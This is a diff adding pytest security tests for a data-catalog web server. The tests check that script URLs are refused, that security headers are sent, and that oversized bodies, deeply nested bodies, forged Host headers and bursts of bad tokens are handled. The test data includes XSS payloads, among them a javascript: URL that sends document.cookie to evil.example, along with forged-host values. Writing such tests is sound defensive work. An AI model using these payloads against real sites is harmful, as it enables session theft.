@@ -1,0 +1,344 @@
+"""Attacks on the HTTP layer of a running ``mosu up`` (issue 10, items 6, 7, 12, 14 and 15):
+script URLs, security headers, oversized and deeply nested bodies, a forged Host header,
+bursts of bad API tokens, and bytes codecs as a resource encoding."""
+from __future__ import annotations
+
+import http.client
+import io
+import json
+import time
+import uuid
+from pathlib import Path
+
+import ckanapi
+import pytest
+import requests
+from sqlalchemy import select
+
+from catalog.models import IngestJob, Package, Resource
+from tests.conftest import s3_settings, start_mosu, wait_for_ingest
+
+TOKEN_FAILURE_LIMIT = 5
+UPLOAD_LIMIT = 2 * 1024 * 1024
+XSS = "javascript:alert(document.domain)//"
+
+
+@pytest.fixture(scope="module")
+def site(s3, tmp_path_factory):
+    """``mosu up`` with the default body limit (1 MiB), a 2 MiB upload limit and a low bad-token
+    limit, so each can be crossed cheaply."""
+    data_dir = tmp_path_factory.mktemp("http-security") / "data"
+    settings = s3_settings(s3, data_dir, max_upload_bytes=UPLOAD_LIMIT, token_failure_limit=TOKEN_FAILURE_LIMIT)
+    env = {k: v for k, v in settings.to_env().items() if k != "MOSU_DATA_DIR"}
+    running = start_mosu(data_dir, env, settings)
+    yield running
+    running.stop()
+
+
+@pytest.fixture(scope="module")
+def admin(site):
+    return site.ckan(site.token("http-admin", sysadmin=True))
+
+
+@pytest.fixture(scope="module")
+def org(admin):
+    return admin.action.organization_create(name="http-org")
+
+
+def _name() -> str:
+    return "ds-" + uuid.uuid4().hex[:10]
+
+
+def _post(site, action: str, data: bytes | object, token: str | None = None, **headers) -> requests.Response:
+    headers = {"Content-Type": "application/json", **({"Authorization": token} if token else {}), **headers}
+    body = data if isinstance(data, (bytes, str)) or hasattr(data, "__next__") else json.dumps(data)
+    return requests.post(f"{site.url}/api/3/action/{action}", data=body, headers=headers, timeout=120)
+
+
+def _rss(pid: int) -> dict[str, int]:
+    out = {}
+    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
+        key, _, value = line.partition(":")
+        if key in ("VmRSS", "VmHWM"):
+            out[key] = int(value.split()[0]) * 1024
+    return out
+
+
+# -- item 6: only http(s) and relative URLs; security headers ---------------------------------
+
+def test_javascript_urls_are_refused_in_every_url_field(site, admin, org):
+    with pytest.raises(ckanapi.ValidationError) as err:
+        admin.action.package_create(name=_name(), owner_org=org["id"], url=XSS)
+    assert "url" in err.value.error_dict
+    with pytest.raises(ckanapi.ValidationError) as err:
+        admin.action.package_create(name=_name(), owner_org=org["id"],
+                                    resources=[{"url": "javascript:fetch('//evil.example/'+document.cookie)"}])
+    assert "url" in err.value.error_dict
+    pkg = admin.action.package_create(name=_name(), owner_org=org["id"], url="https://example.org/source")
+    for bad in (" JavaScript:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
+                "vbscript:msgbox(1)"):
+        with pytest.raises(ckanapi.ValidationError) as err:
+            admin.action.resource_create(package_id=pkg["id"], url=bad)
+        assert err.value.error_dict["url"] == ["Must be an http:// or https:// URL (or a relative one)"]
+    res = admin.action.resource_create(package_id=pkg["id"], url="https://example.org/data.csv")
+    with pytest.raises(ckanapi.ValidationError):
+        admin.action.resource_patch(id=res["id"], url=XSS)
+    with pytest.raises(ckanapi.ValidationError):
+        admin.action.package_patch(id=pkg["id"], url=XSS)
+    with pytest.raises(ckanapi.ValidationError) as err:
+        admin.action.organization_create(name="xss-org", image_url=XSS)
+    assert "image_url" in err.value.error_dict
+    with pytest.raises(ckanapi.ValidationError):
+        admin.action.group_create(name="xss-group", image_url=XSS)
+    with pytest.raises(ckanapi.ValidationError):
+        admin.action.user_update(id="http-admin", image_url=XSS)
+    assert admin.action.package_show(id=pkg["id"])["url"] == "https://example.org/source"
+    assert admin.action.resource_patch(id=res["id"], url="files/data.csv")["url"] == "files/data.csv"
+
+
+def test_a_stored_script_url_is_never_rendered_as_a_link(site, admin, org):
+    """Defence in depth: a URL stored before URL fields were checked is shown, not linked."""
+    pkg = admin.action.package_create(name=_name(), owner_org=org["id"],
+                                      resources=[{"url": "https://example.org/a.csv", "name": "link"}])
+    platform = site.inspect()
+    with platform.write.begin() as s:
+        s.get(Package, pkg["id"]).url = XSS
+        s.get(Resource, pkg["resources"][0]["id"]).url = "JAVASCRIPT:alert(2)"
+    platform.close()
+    html = requests.get(f"{site.url}/dataset/{pkg['name']}", timeout=10).text
+    assert XSS in html and "JAVASCRIPT:alert(2)" in html, "the values are still shown"
+    assert 'href="javascript' not in html.lower()
+
+
+SECURITY_HEADERS = ("Content-Security-Policy", "X-Content-Type-Options", "Referrer-Policy")
+
+
+def test_every_response_carries_the_security_headers(site, admin, org):
+    pkg = admin.action.package_create(name=_name(), owner_org=org["id"])
+    answers = {
+        "home page": requests.get(site.url + "/", timeout=10),
+        "dataset page": requests.get(f"{site.url}/dataset/{pkg['name']}", timeout=10),
+        "missing dataset page": requests.get(f"{site.url}/dataset/nope-{uuid.uuid4().hex}", timeout=10),
+        "unknown route": requests.get(site.url + "/no/such/page", timeout=10),
+        "static file": requests.get(site.url + "/static/status.js", timeout=10),
+        "action": requests.get(site.url + "/api/3/action/status_show", timeout=10),
+        "action error": requests.get(site.url + "/api/3/action/package_show?id=nope", timeout=10),
+        "dump error": requests.get(site.url + "/datastore/dump/nope", timeout=10),
+        "too large": _post(site, "status_show", b"{" + b" " * (2 << 20) + b"}"),
+    }
+    for label, resp in answers.items():
+        csp = resp.headers.get("Content-Security-Policy", "")
+        assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp, label
+        assert "script-src 'self'" in csp and "unsafe-inline" not in csp, label
+        assert resp.headers.get("X-Content-Type-Options") == "nosniff", label
+        assert resp.headers.get("Referrer-Policy") in ("strict-origin-when-cross-origin", "no-referrer"), label
+
+
+# -- item 7: small bodies except uploads, bounded nesting ------------------------------------
+
+def test_a_large_json_body_is_refused_unread(site):
+    """The issue's 30 MB body to status_show (799 MB of RSS before): 413, and memory stays flat."""
+    body = b'{"a": [' + b",".join([b"{}"] * (30 * 1024 * 1024 // 3)) + b"]}"
+    before = _rss(site.proc.pid)
+    resp = _post(site, "status_show", body)
+    assert resp.status_code == 413
+    error = resp.json()["error"]
+    assert error["__type"] == "Validation Error" and "exceeds the limit of 1048576 bytes" in error["message"]
+    chunked = _post(site, "status_show", iter([body[i:i + (1 << 20)] for i in range(0, len(body), 1 << 20)]))
+    assert chunked.status_code == 413, "a chunked body (no Content-Length) is held to the same limit"
+    after = _rss(site.proc.pid)
+    assert after["VmHWM"] - before["VmHWM"] < 64 * 1024 * 1024, (before, after)
+    form = requests.post(site.url + "/api/3/action/status_show", data={"a": "x" * (2 << 20)}, timeout=60)
+    assert form.status_code == 413
+    dump = requests.post(site.url + "/datastore/dump_sql", data=body[:(2 << 20)],
+                         headers={"Content-Type": "application/json"}, timeout=60)
+    assert dump.status_code == 413 and dump.json()["error"]["__type"] == "Validation Error"
+
+
+def test_uploads_keep_the_upload_limit(site, admin, org):
+    pkg = admin.action.package_create(name=_name(), owner_org=org["id"])
+    csv = b"n,square\n" + b"".join(b"%d,%d\n" % (i, i * i) for i in range(120_000))
+    assert 1024 * 1024 < len(csv) < UPLOAD_LIMIT
+    res = admin.action.resource_create(package_id=pkg["id"], upload=("squares.csv", io.BytesIO(csv)))
+    assert wait_for_ingest(admin, res["id"])["row_count"] == 120_000
+    resp = _post(site, "resource_patch", {"id": res["id"], "description": "x" * (2 << 20)}, admin.apikey)
+    assert resp.status_code == 413, "a JSON body is not an upload, whatever the action"
+
+
+def test_deeply_nested_json_is_a_bad_request(site, admin, org):
+    deep = b"[" * 200_000 + b"]" * 200_000
+    for action in ("status_show", "package_search"):
+        resp = _post(site, action, b'{"q": ' + deep + b"}")
+        assert resp.status_code == 400, resp.text[:300]
+        error = resp.json()["error"]
+        assert error["__type"] == "Bad request - JSON Error" and "nested deeper than 64 levels" in error["message"]
+    assert _post(site, "status_show", deep).status_code == 400
+    dump = requests.post(site.url + "/datastore/dump_sql", data=b'{"sql": ' + deep + b"}",
+                         headers={"Content-Type": "application/json"}, timeout=30)
+    assert dump.status_code == 400 and dump.json()["error"]["__type"] == "Bad request - JSON Error"
+    pkg = admin.action.package_create(name=_name(), owner_org=org["id"])
+    nested = {"x": 1}
+    for _ in range(60):
+        nested = {"x": nested}
+    res = admin.action.resource_create(package_id=pkg["id"], url="https://example.org/a", layout=nested)
+    assert res["layout"] == nested, "ordinary nesting still works"
+
+
+# -- item 12: absolute URLs from the site URL, never from Host --------------------------------
+
+def test_a_forged_host_header_never_reaches_a_link(site, admin, org):
+    pkg = admin.action.package_create(name=_name(), owner_org=org["id"])
+    res = admin.action.resource_create(package_id=pkg["id"], upload=("a.csv", io.BytesIO(b"a,b\n1,2\n")))
+    wait_for_ingest(admin, res["id"])
+    evil = {"Host": "evil.example", "X-Forwarded-Host": "evil.example"}
+    status = requests.get(site.url + "/api/3/action/status_show", headers=evil, timeout=10).json()
+    assert status["result"]["site_url"] == site.url, "MOSU_SITE_URL defaults to the listen URL"
+    assert status["help"] == f"{site.url}/api/3/action/help_show?name=status_show"
+    answers = [requests.get(f"{site.url}/api/3/action/{action}", params=params, headers=evil, timeout=10)
+               for action, params in (("resource_show", {"id": res["id"]}), ("package_show", {"id": pkg["id"]}),
+                                      ("package_search", {"q": pkg["name"]}), ("package_activity_list",
+                                                                              {"id": pkg["id"]}))]
+    answers.append(requests.get(f"{site.url}/dataset/{pkg['name']}", headers=evil, timeout=10))
+    answers.append(requests.get(f"{site.url}/api/3/action/nope", headers=evil, timeout=10))
+    for resp in answers:
+        assert "evil.example" not in resp.text, resp.url
+    shown = requests.get(f"{site.url}/api/3/action/resource_show", params={"id": res["id"]}, headers=evil,
+                         timeout=10).json()["result"]
+    assert shown["url"] == f"{site.url}/dataset/{pkg['id']}/resource/{res['id']}/download"
+    found = requests.get(f"{site.url}/api/3/action/package_search", params={"q": pkg["name"]},
+                         headers=evil, timeout=10).json()["result"]["results"][0]
+    assert found["resources"][0]["url"] == shown["url"]
+    download = requests.get(shown["url"], headers=evil, allow_redirects=False, timeout=10)
+    assert download.status_code == 302 and "evil.example" not in download.headers["Location"]
+
+
+# -- item 14: token use recorded; bursts of bad tokens slowed ---------------------------------
+
+def test_token_use_is_recorded_at_most_once_a_minute(site, admin):
+    token = site.token("token-user")
+    bob = site.ckan(token)
+    assert all(t["last_access"] is None for t in admin.action.api_token_list(user="token-user"))
+    bob.action.package_list()
+    [listed] = [t for t in admin.action.api_token_list(user="token-user") if t["last_access"]]
+    bob.action.package_list()
+    again = [t for t in admin.action.api_token_list(user="token-user") if t["id"] == listed["id"]][0]
+    assert again["last_access"] == listed["last_access"], "a second use within a minute is not a write"
+
+
+def _from(address: str, site, token: str) -> tuple[int, dict, dict]:
+    """One request from the loopback ``address`` (127.0.0.0/8 all reaches the server)."""
+    host, port = site.url.removeprefix("http://").split(":")
+    conn = http.client.HTTPConnection(host, int(port), timeout=10, source_address=(address, 0))
+    try:
+        conn.request("GET", "/api/3/action/package_list", headers={"Authorization": token})
+        resp = conn.getresponse()
+        return resp.status, dict(resp.getheaders()), json.loads(resp.read())
+    finally:
+        conn.close()
+
+
+def test_a_burst_of_bad_tokens_gets_429(site, admin):
+    good = site.token("burst-victim")
+    attacker = f"127.0.{uuid.uuid4().int % 200 + 20}.{uuid.uuid4().int % 200 + 20}"
+    for i in range(TOKEN_FAILURE_LIMIT):
+        status, _, body = _from(attacker, site, f"mosu_forged-{i}")
+        assert status == 403 and body["error"]["__type"] == "Authorization Error"
+    status, headers, body = _from(attacker, site, "mosu_forged-next")
+    assert status == 429
+    assert body["error"]["__type"] == "Rate Limit Error" and "Too many requests" in body["error"]["message"]
+    assert 1 <= int(headers["Retry-After"]) <= 60
+    status, _, _ = _from(attacker, site, good)
+    assert status == 429, "past the limit the address's tokens are not even looked up"
+    status, _, body = _from("127.0.0.1", site, good)
+    assert status == 200 and body["success"], "other addresses are not affected"
+    status, _, _ = _from(attacker, site, "")
+    assert status == 200, "anonymous requests from the address still work"
+
+
+# -- item 15: text encodings only -------------------------------------------------------------
+
+def test_a_bytes_codec_is_refused_as_a_resource_encoding(site, admin, org):
+    pkg = admin.action.package_create(name=_name(), owner_org=org["id"])
+    for bad in ("base64_codec", "zlib", "rot13", "no-such-codec", 42):
+        with pytest.raises(ckanapi.ValidationError) as err:
+            admin.action.resource_create(package_id=pkg["id"], url="https://example.org/a.csv", encoding=bad)
+        assert "encoding" in err.value.error_dict and "Unknown text encoding" in err.value.error_dict["encoding"][0]
+    res = admin.action.resource_create(package_id=pkg["id"], url="https://example.org/a.csv", encoding="GBK")
+    assert res["encoding"] == "GBK"
+    with pytest.raises(ckanapi.ValidationError):
+        admin.action.resource_patch(id=res["id"], encoding="base64_codec")
+    with pytest.raises(ckanapi.ValidationError):
+        admin.action.resource_create(package_id=pkg["id"], encoding="hex",
+                                     upload=("a.csv", io.BytesIO(b"a,b\n1,2\n")))
+
+
+def test_a_stored_bytes_codec_fails_the_ingest_once(site, admin, org):
+    """An encoding stored before the check fails the version at once, with no retries."""
+    pkg = admin.action.package_create(name=_name(), owner_org=org["id"])
+    res = admin.action.resource_create(package_id=pkg["id"], url="https://example.org/a.csv")
+    platform = site.inspect()
+    with platform.write.begin() as s:
+        s.get(Resource, res["id"]).extras = {"encoding": "base64_codec"}
+    started = time.monotonic()
+    # resource_patch keeps the extras it is not given: the stored encoding goes to the worker.
+    admin.action.resource_patch(id=res["id"], upload=("a.csv", io.BytesIO(b"a,b\n1,2\n")))
+    failed = wait_for_ingest(admin, res["id"], timeout=30)
+    assert failed["ingest_status"] == "failed" and "Unknown text encoding 'base64_codec'" in failed["ingest_error"]
+    assert time.monotonic() - started < 25, "no retries with back-off"
+    with platform.read() as s:
+        job = s.scalars(select(IngestJob).where(IngestJob.resource_id == res["id"])).one()
+        assert job.state == "failed" and job.attempts == 1
+    platform.close()
+
+
+def test_without_a_site_url_links_are_relative_whatever_the_host(platform):
+    """An app built without MOSU_SITE_URL (tests, embedding) never trusts Host: links stay relative."""
+    from catalog.actions import call
+    from catalog.api import create_app
+    from catalog.context import Actor, Context
+
+    site_ctx = Context(platform=platform, actor=Actor.site())
+    call(site_ctx, "organization_create", {"name": "rel-org"})
+    pkg = call(site_ctx, "package_create", {"name": "rel-ds", "owner_org": "rel-org"})
+    client = create_app(platform=platform).test_client()
+    body = client.get("/api/3/action/package_show?id=rel-ds", headers={"Host": "evil.example"}).get_json()
+    assert body["help"] == "/api/3/action/help_show?name=package_show"
+    assert body["result"]["id"] == pkg["id"] and "evil.example" not in json.dumps(body)
+    page = client.get("/dataset/rel-ds", headers={"Host": "evil.example"})
+    assert page.status_code == 200 and b"evil.example" not in page.data
+
+
+def test_sigterm_stops_mosu_while_clients_keep_connecting(s3, tmp_path):
+    """SIGTERM landing inside a waitress connection handler was swallowed (4 of 4 tries)."""
+    import signal
+    import socket
+    import threading
+
+    data_dir = tmp_path / "data"
+    settings = s3_settings(s3, data_dir)
+    running = start_mosu(data_dir, {k: v for k, v in settings.to_env().items() if k != "MOSU_DATA_DIR"},
+                         settings, ("--workers", "0"))
+    port = int(running.url.rsplit(":", 1)[1])
+    stop = threading.Event()
+
+    def hammer() -> None:
+        while not stop.is_set():
+            try:
+                with socket.create_connection(("127.0.0.1", port), timeout=2) as conn:
+                    conn.sendall(b"GET /static/status.js HTTP/1.1\r\nHost: x\r\n\r\n")
+            except OSError:
+                time.sleep(0.01)
+
+    clients = [threading.Thread(target=hammer, daemon=True) for _ in range(2)]
+    for c in clients:
+        c.start()
+    try:
+        time.sleep(1.5)
+        running.proc.send_signal(signal.SIGTERM)
+        running.proc.wait(30)
+    finally:
+        stop.set()
+        if running.proc.poll() is None:
+            running.proc.kill()
+            running.proc.wait()
+    assert "Mosu stopped." in running.log.read_text()
